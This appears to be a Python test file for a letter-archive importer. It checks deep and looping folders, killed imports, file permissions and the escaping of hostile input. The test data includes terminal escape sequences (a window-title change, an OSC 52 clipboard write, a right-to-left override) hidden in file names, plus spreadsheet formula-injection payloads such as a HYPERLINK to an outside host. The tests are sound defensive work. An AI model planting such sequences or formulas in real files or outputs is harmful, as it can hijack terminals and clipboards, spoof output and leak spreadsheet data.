"""Hostile imports: deep and looping folders, huge PDFs, killed importers, hostile names."""

from __future__ import annotations

import contextlib
import csv
import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from fpdf import FPDF

import archive.readers.pdf
from archive.generator import generate_archive
from archive.importer import import_paths
from archive.store import TEXTS_DIR, Store
from tests.conftest import RunCli, WriteLetter


def test_a_folder_nested_past_the_recursion_limit_imports_with_the_other_paths(
    store: Store, write_letter: WriteLetter, tmp_path: Path
) -> None:
    deep = tmp_path / "deep"
    bottom = deep
    for _level in range(1100):  # deeper than Python's recursion limit of 1000
        bottom.mkdir()
        bottom = bottom / "d"
    write_letter(bottom.parent / "bottom.txt")
    other = write_letter(tmp_path / "other" / "b.txt", kind="mp")

    try:
        summary = import_paths(store, [deep, other.parent], workers=1)
    finally:
        _remove_deep_tree(deep)

    assert (summary.imported, summary.failed) == (2, ())
    assert sorted(Path(letter.path).name for letter in store.letters()) == ["b.txt", "bottom.txt"]


def _remove_deep_tree(top: Path) -> None:
    """Remove a tree too deep for ``shutil.rmtree`` (pytest's clean-up of old runs uses it)."""
    folders = []
    folder = top
    while folder.is_dir():
        folders.append(folder)
        folder = folder / "d"
    for folder in reversed(folders):
        for entry in folder.iterdir():
            if not entry.is_dir():
                entry.unlink()
        folder.rmdir()


def test_a_path_too_long_for_the_file_system_is_a_failure_naming_it(
    store: Store, write_letter: WriteLetter, tmp_path: Path
) -> None:
    good = write_letter("good.txt")
    long_name = "n" * 250
    folder_fd = os.open(good.parent, os.O_RDONLY)
    try:
        for _level in range(20):  # 5,000 bytes: past PATH_MAX (4,096)
            os.mkdir(long_name, dir_fd=folder_fd)
            below = os.open(long_name, os.O_RDONLY, dir_fd=folder_fd)
            os.close(folder_fd)
            folder_fd = below
    finally:
        os.close(folder_fd)

    summary = import_paths(store, [good.parent], workers=1)

    assert summary.imported == 1
    [failure] = summary.failed
    assert failure.file.startswith(str(good.parent / long_name))
    assert failure.reason.startswith("path too long for the file system")


def test_a_symbolic_link_loop_is_named_in_the_summary(
    store: Store, write_letter: WriteLetter, letters_dir: Path
) -> None:
    write_letter("a.txt")
    write_letter("sub/b.txt", kind="mp")
    (letters_dir / "sub" / "up").symlink_to(letters_dir)
    (letters_dir / "also-sub").symlink_to(letters_dir / "sub")  # a second way in: no loop

    summary = import_paths(store, [letters_dir], workers=1)

    assert (summary.imported, summary.failed) == (2, ())
    assert [(n.file, n.reason) for n in summary.notices] == [
        (str(letters_dir / "also-sub" / "up"), "folder skipped: a symbolic link loop")
    ]


def _pdf_of_pages(count: int) -> bytes:
    pdf = FPDF()
    pdf.set_font("helvetica", size=12)
    for number in range(1, count + 1):
        pdf.add_page()
        pdf.cell(text=f"Dear Minister, this is page {number} of the letter.")
    return bytes(pdf.output())


def test_a_pdf_past_the_page_cap_keeps_its_first_pages_and_says_so(
    store: Store, letters_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(archive.readers.pdf, "MAX_PAGES", 3)
    (letters_dir / "long.pdf").write_bytes(_pdf_of_pages(5))

    summary = import_paths(store, [letters_dir], workers=1)

    [letter] = store.letters()
    text = store.text(letter)
    assert "page 3 of" in text and "page 4 of" not in text
    assert len(letter.pages) == 3
    expected = "only the first 3 of its 5 pages were read (at most 3 pages of a PDF are read)"
    assert [(n.file, n.reason) for n in summary.notices] == [
        (str(letters_dir / "long.pdf"), expected)
    ]
    assert expected in letter.warnings


# -- killing an import ---------------------------------------------------------------------------


def _process_table() -> dict[int, tuple[int, str]]:
    """Every live process: pid -> (parent pid, start time), from /proc."""
    table: dict[int, tuple[int, str]] = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            stat_line = Path(f"/proc/{entry}/stat").read_text()
        except OSError:
            continue  # it ended while we looked
        fields = stat_line.rpartition(")")[2].split()
        table[int(entry)] = (int(fields[1]), fields[19])
    return table


def _descendants(pid: int) -> dict[int, str]:
    """The processes started (directly or not) by ``pid``: pid -> start time."""
    table = _process_table()
    found: dict[int, str] = {}
    parents = [pid]
    while parents:
        parent = parents.pop()
        for child, (ppid, started) in table.items():
            if ppid == parent and child not in found:
                found[child] = started
                parents.append(child)
    return found


def _still_running(processes: dict[int, str], *, within: float) -> dict[int, str]:
    deadline = time.monotonic() + within
    while True:
        table = _process_table()
        alive = {pid: s for pid, s in processes.items() if table.get(pid, (0, ""))[1] == s}
        if not alive or time.monotonic() > deadline:
            return alive
        time.sleep(0.05)


_MAIN = "import sys; from tui.cli import main; sys.exit(main())"


#: The importer alone (no index, no pairing): SOURCE ARCHIVE -> the summary as JSON.
_IMPORT_ONLY = """import json, sys
from pathlib import Path
from archive.importer import import_paths
from archive.store import Store
store = Store(Path(sys.argv[2]), create=True)
print(json.dumps(import_paths(store, [Path(sys.argv[1])], workers=2).to_json()))
"""


def _signals_as_a_terminal_sends_them() -> None:
    """In the import's process, before it starts: SIGINT and SIGHUP back to their defaults.
    A test run started in the background (``nohup make test &``) ignores both, and a child
    inherits that; the import must meet them as a researcher's terminal sends them."""
    for signum in (signal.SIGINT, signal.SIGHUP):
        signal.signal(signum, signal.SIG_DFL)


def _start_import_and_wait_for_reading(
    tmp_path: Path, letters: int, read_bytes: int, *, command_line: bool = True
) -> tuple[subprocess.Popen[bytes], Path, dict[int, str]]:
    """A real import (``dispatchbox import``, or the importer alone) with two reader
    processes, once they have read a little."""
    source = tmp_path / "generated"
    generate_archive(letters, source, seed=9)
    archive = tmp_path / "killed-archive"
    if command_line:
        command = [sys.executable, "-c", _MAIN, "import", str(source), "--workers", "2"]
        command += ["--archive", str(archive)]
    else:
        command = [sys.executable, "-c", _IMPORT_ONLY, str(source), str(archive)]
    with (tmp_path / "import.out").open("wb") as out, (tmp_path / "import.err").open("wb") as err:
        importer = subprocess.Popen(
            command, stdout=out, stderr=err, preexec_fn=_signals_as_a_terminal_sends_them
        )
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline and importer.poll() is None:
        packs = list((archive / TEXTS_DIR).glob("*.pack")) if (archive / TEXTS_DIR).is_dir() else []
        if sum(pack.stat().st_size for pack in packs) >= read_bytes:
            break
        time.sleep(0.05)
    processes = _descendants(importer.pid)
    if importer.poll() is not None or len(processes) < 2:
        importer.kill()
        importer.wait(timeout=10)
        _end(processes)
        pytest.fail("the import was not reading when the test meant to stop it")
    return importer, archive, processes


def _end(processes: dict[int, str]) -> dict[int, str]:
    """The processes of ``processes`` still running after a few seconds (then killed)."""
    survivors = _still_running(processes, within=5)
    for pid in survivors:  # a test must not leave them behind either
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
    return survivors


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads /proc")
def test_a_killed_import_leaves_no_process_behind(tmp_path: Path) -> None:
    importer, _archive, processes = _start_import_and_wait_for_reading(tmp_path, 200, 1)

    importer.kill()
    importer.wait(timeout=10)

    assert _end(processes) == {}


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads /proc")
@pytest.mark.parametrize(
    ("signum", "code_expected", "said"),
    [
        (signal.SIGTERM, 143, "stopped by SIGTERM"),
        (signal.SIGHUP, 129, "stopped by SIGHUP"),  # the terminal was closed
        (signal.SIGINT, 130, "interrupted"),
    ],
    ids=["SIGTERM", "SIGHUP", "SIGINT"],
)
def test_a_stopped_import_keeps_what_was_read_and_leaves_no_process(
    tmp_path: Path, signum: int, code_expected: int, said: str
) -> None:
    # Enough letters that the import is still reading a second after the first 150 kB: with
    # 300, and later with 1,500 once the import got faster, a quiet machine finished first and
    # the test saw the import's own exit code (3, for the archive's one malformed file).
    importer, archive, processes = _start_import_and_wait_for_reading(tmp_path, 5000, 150_000)
    time.sleep(1)  # the readers' first results reach the import (this machine may be busy)

    importer.send_signal(signum)
    try:
        code = importer.wait(timeout=20)
    finally:
        importer.kill()
        survivors = _end(processes)

    assert survivors == {}
    assert code == code_expected
    assert f"{said}; what was finished has been kept" in (tmp_path / "import.err").read_text()
    store = Store(archive)
    kept = list(store.letters())
    assert kept, "the letters read before the signal were lost"
    assert all(store.text(letter) for letter in kept)


# -- what reaches a terminal ---------------------------------------------------------------------

#: Sets the window title, writes the clipboard (OSC 52), a C1 CSI, DEL, a right-to-left override.
HOSTILE_NAME = "a\x1b]0;owned\x07b\x1b]52;c;ZXZpbA==\x07c\x9b2Jd\x7fe\u202eexe.txt"
RAW = ("\x1b", "\x07", "\x9b", "\x7f", "\u202e")


def test_import_progress_on_a_terminal_shows_hostile_names_written_out(tmp_path: Path) -> None:
    import pty
    import select

    folder = tmp_path / "letters"
    folder.mkdir()
    (folder / HOSTILE_NAME).write_text("Dear Minister,\n\nThank you.\n\nYours sincerely,\nAnn\n")
    controller, terminal = pty.openpty()
    environment = {**os.environ, "TERM": "xterm-256color", "COLUMNS": "200"}
    with subprocess.Popen(
        [sys.executable, "-c", _MAIN, "import", str(folder), "--archive", str(tmp_path / "a")],
        stdin=terminal,
        stdout=terminal,
        stderr=terminal,
        env=environment,
    ) as importer:
        os.close(terminal)
        shown = b""
        while True:
            ready, _, _ = select.select([controller], [], [], 30)
            try:
                chunk = os.read(controller, 65536) if ready else b""
            except OSError:  # EIO: the importer closed the terminal
                chunk = b""
            if not chunk:
                break
            shown += chunk
        importer.wait(timeout=30)
    os.close(controller)

    assert importer.returncode == 0
    assert b"\x1b]" not in shown  # no OSC: neither the title nor the clipboard was touched
    for raw in RAW:
        assert raw.encode() not in shown.replace(b"\x1b[", b"")  # the bar's own colours aside
    assert b"a\\u001b]0;owned\\u0007b" in shown


def test_import_json_escapes_del_c1_and_bidi_controls(run_cli: RunCli, letters_dir: Path) -> None:
    (letters_dir / HOSTILE_NAME.replace(".txt", ".pdf")).write_bytes(b"%PDF-1.7\n1 0 obj <<\n")

    code, out, _err = run_cli("import", letters_dir, "--json")

    assert code == 3
    assert not any(raw in out for raw in RAW)
    [failure] = json.loads(out)["failed"]
    assert failure["file"] == str(letters_dir / HOSTILE_NAME.replace(".txt", ".pdf"))


def test_import_report_writes_out_bidi_controls_and_newlines_in_names(
    run_cli: RunCli, letters_dir: Path
) -> None:
    (letters_dir / "bad\u202efdp.\nfailed: fake.pdf").write_bytes(b"%PDF-1.7\n1 0 obj <<\n")

    code, out, _err = run_cli("import", letters_dir)

    assert code == 3
    assert "\u202e" not in out
    [line] = [line for line in out.splitlines() if line.startswith("failed: ")]
    assert line.startswith(f"failed: {letters_dir}/bad\\u202efdp.\\u000afailed: fake.pdf: ")


def test_show_writes_out_controls_in_the_file_name_and_the_text(
    run_cli: RunCli, letters_dir: Path
) -> None:
    text = "Dear Minister,\n\x1b]52;c;ZXZpbA==\x07 \x9b2J\x7f \u2066hidden\u2069\n\nYours,\nAnn\n"
    (letters_dir / HOSTILE_NAME).write_text(text)
    assert run_cli("import", letters_dir)[0] == 0
    letter_id = json.loads(run_cli("search", "minister", "--json")[1].splitlines()[0])["id"]

    _code, shown, _err = run_cli("show", letter_id)
    _code, as_json, _err = run_cli("show", letter_id, "--json")

    assert not any(raw in shown + as_json for raw in (*RAW, "\u2066"))
    assert "\\u001b]52;c;ZXZpbA==\\u0007 \\u009b2J\\u007f \\u2066hidden\\u2069" in shown
    assert json.loads(as_json)["text"] == text
    assert json.loads(as_json)["path"] == str(letters_dir / HOSTILE_NAME)


# -- exports -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "note",
    ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
)
def test_csv_export_cells_that_a_spreadsheet_would_run_start_with_a_quote(
    run_cli: RunCli, write_letter: WriteLetter, letters_dir: Path, tmp_path: Path, note: str
) -> None:
    write_letter("reply.txt")
    assert run_cli("import", letters_dir)[0] == 0
    letter_id = json.loads(run_cli("search", "operator", "--json")[1].splitlines()[0])["id"]
    assert run_cli("note", letter_id, "--", note)[0] == 0

    run_cli("export", "--output", tmp_path / "out.csv")
    run_cli("export", "--output", tmp_path / "out.jsonl")

    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as handle:
        [row] = list(csv.DictReader(handle))
    assert row["note"] == "'" + note
    assert row["file"] == str(letters_dir / "reply.txt")  # other cells as they were
    assert json.loads((tmp_path / "out.jsonl").read_text())["note"] == note  # JSON unchanged


# -- who can read an archive ---------------------------------------------------------------------


@pytest.fixture
def open_umask() -> Iterator[None]:
    """The usual umask (022), under which files are created readable by everyone."""
    previous = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(previous)


def _readable_by_others(root: Path) -> list[str]:
    found = [] if root.stat().st_mode & 0o077 == 0 else ["."]
    for folder, folders, files in os.walk(root):
        for name in [*folders, *files]:
            path = Path(folder) / name
            if path.lstat().st_mode & 0o077:
                found.append(f"{path.relative_to(root)} {oct(path.lstat().st_mode & 0o777)}")
    return found


@pytest.mark.usefixtures("open_umask")
def test_an_archive_made_by_the_command_is_readable_by_its_owner_only(
    run_cli: RunCli, write_letter: WriteLetter, letters_dir: Path, tmp_path: Path
) -> None:
    write_letter("reply.txt")
    write_letter("mp.txt", kind="mp")
    archive = tmp_path / "private"
    assert run_cli("import", letters_dir, "--archive", archive)[0] == 0
    letter_id = json.loads(run_cli("search", "operator", "--json", "--archive", archive)[1])["id"]
    assert run_cli("tag", letter_id, "+private", "--archive", archive)[0] == 0
    assert run_cli("note", letter_id, "a note", "--archive", archive)[0] == 0

    made = {path.name for path in archive.iterdir()}
    assert {"letters.jsonl", "annotations.json", TEXTS_DIR, "index"} <= made
    assert _readable_by_others(archive) == []
    assert os.umask(0o022) == 0o022  # the command left the caller's umask as it was


@pytest.mark.usefixtures("open_umask")
def test_a_store_made_by_the_library_is_closed_to_others(
    write_letter: WriteLetter, letters_dir: Path, tmp_path: Path
) -> None:
    write_letter("reply.txt")
    store = Store(tmp_path / "archive", create=True)

    import_paths(store, [letters_dir], workers=1)
    store.update_tags([store.ids()[0]], add=["private"], remove=[])

    assert (store.root.stat().st_mode & 0o777) == 0o700
    assert [path.stat().st_mode & 0o777 for path in (store.root / TEXTS_DIR).iterdir()] == [0o600]
    assert (store.root / TEXTS_DIR).stat().st_mode & 0o777 == 0o700
    for name in ("dispatchbox.json", "letters.jsonl", "annotations.json"):
        assert (store.root / name).stat().st_mode & 0o777 == 0o600, name


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads /proc")
def test_a_reader_process_killed_mid_import_costs_one_new_process_not_one_per_file(
    tmp_path: Path,
) -> None:
    importer, _archive, processes = _start_import_and_wait_for_reading(
        tmp_path, 100, 1, command_line=False
    )
    parents = {_process_table().get(pid, (0, ""))[0] for pid in processes}
    readers = [p for p in processes if p not in parents and b"resource_tracker" not in _cmdline(p)]

    try:
        os.kill(readers[0], signal.SIGKILL)
        code = importer.wait(timeout=30)
    except subprocess.TimeoutExpired:
        # Say what the import was doing (a hang once seen here is why archive.readerpool
        # exists): its error output and the processes still running.
        still = {pid: _process_table().get(pid) for pid in _descendants(importer.pid)}
        err = (tmp_path / "import.err").read_text(errors="replace")[-2000:]
        pytest.fail(f"the import had not ended 30 s after a reader died; processes {still}; {err}")
    finally:
        importer.kill()
        _end(processes)

    assert code == 0
    summary = json.loads((tmp_path / "import.out").read_text())
    assert not [f for f in summary["failed"] if "crashed the reader" in f["reason"]]
    assert summary["imported"] + summary["duplicates"] + len(summary["failed"]) == 100


def _cmdline(pid: int) -> bytes:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return b""
